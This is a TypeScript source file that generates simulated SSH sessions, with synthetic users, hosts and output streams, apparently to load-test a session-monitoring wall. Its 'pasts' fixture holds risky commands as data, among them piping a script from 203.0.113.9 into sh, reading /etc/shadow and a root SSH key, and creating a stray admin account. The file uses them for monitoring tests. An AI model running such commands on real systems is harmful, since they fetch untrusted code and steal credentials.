import type { Script, SimulatedSession, Stage, Step } from '../sources/replay/script';
import { already, promptOf } from './programs/shell';
import { editor, top } from './programs/screens';
import { build, logTail, rows } from './programs/streams';
import type { Scenario } from './scenario';

const people = ['m.okafor', 'j.lindqvist', 'r.castillo', 's.nakamura', 'd.petrov', 'a.haddad', 'l.moreau', 'k.novak', 't.ekholm', 'p.rossi', 'n.abebe', 'c.silva', 'e.wagner', 'i.kowalski', 'h.tanaka', 'b.quinn'];
const places = [
  { asset: 'db-prod', team: 'payments' }, { asset: 'app-edge', team: 'web' }, { asset: 'k8s-node', team: 'platform' }, { asset: 'ledger', team: 'payments' },
  { asset: 'ci-runner', team: 'build' }, { asset: 'mail-relay', team: 'messaging' }, { asset: 'vault', team: 'security' }, { asset: 'etl', team: 'data' },
];
const sizes = [{ columns: 80, rows: 24 }, { columns: 100, rows: 30 }, { columns: 120, rows: 36 }, { columns: 80, rows: 24 }];

/** What was done before anyone looked, and so how risky the session is from its first second. */
const pasts: readonly (readonly string[])[] = [
  [], [], [], [], ['sudo systemctl restart nginx'], ['sudo su -'], [], ['psql -c "DELETE FROM staging_rows"'],
  [], ['sudo -i', 'cat /etc/shadow'], [], [], ['useradd -m tmp_admin'], ['curl -s http://203.0.113.9/a.sh | sh', 'sudo su -', 'cat /root/.ssh/id_rsa'], [], ['rm -rf /srv/releases/old'],
];

/** Each kind of work makes 7 to 9 KB of output a second; `busy`: 10 to 13. */
const works: readonly ((stage: Stage, busy: boolean) => Generator<Step>)[] = [
  (stage, busy) => logTail(stage.random, 150, busy ? 16 : 11, 200),
  (stage, busy) => top(stage, (stage.rows > 30 ? 480 : stage.rows > 24 ? 330 : 210) * (busy ? 0.8 : 1), 150),
  (stage, busy) => build(stage.random, 150, busy ? 19 : 13, 150),
  (stage, busy) => rows(stage.random, 150, busy ? 26 : 21, 150),
  (stage, busy) => editor(stage, '/etc/service/values.yaml', busy ? 6 : 12, 1_200),
];

const noisyScript = (index: number, busy: boolean): Script => function* play(stage) {
  yield { waitMs: stage.random.integer(0, 400), output: `Last login: Sun Nov 22 01:${10 + (index % 50)}:07 2026 from 10.20.${index % 250}.14\r\n${promptOf(stage)}` };
  for (const done of pasts[index % pasts.length] ?? []) yield* already(stage, done);
  // Every eighth sits idle but for a key now and then.
  if (!busy && index % 8 === 7) {
    for (;;) yield { waitMs: 20_000, typed: ' ', output: ' ' };
  }
  const work = works[index % works.length];
  for (;;) {
    if (work !== undefined) yield* work(stage, busy);
    yield { waitMs: 500, output: promptOf(stage) };
  }
};

/** Sessions that keep a wall busy: the same ones on every run. `busy`: all of them, at 10 KB a second and more. */
export const noisySessions = (count: number, busy = false): readonly SimulatedSession[] =>
  Array.from({ length: count }, (_, index) => {
    const place = places[index % places.length] ?? { asset: 'host', team: 'web' };
    const size = sizes[index % sizes.length] ?? { columns: 80, rows: 24 };
    return {
      user: people[(index * 5) % people.length] ?? 'nobody', asset: `${place.asset}-${1 + Math.floor(index / places.length)}`, protocol: 'ssh', team: place.team,
      remoteAddress: `10.20.${index % 250}.${14 + (index % 200)}`, ...size, seed: 1_000 + index, script: noisyScript(index, busy),
    };
  });

export const noisy = (count: number): Scenario => ({ name: `noisy-${count}`, about: `${count} sessions, seven of eight with about 8 KB of output a second`, sessions: () => noisySessions(count) });
export const busy = (count: number): Scenario => ({ name: `busy-${count}`, about: `${count} sessions with 10 KB of output a second and more each`, sessions: () => noisySessions(count, true) });

export const noisy64 = noisy(64);
export const noisy256 = noisy(256);
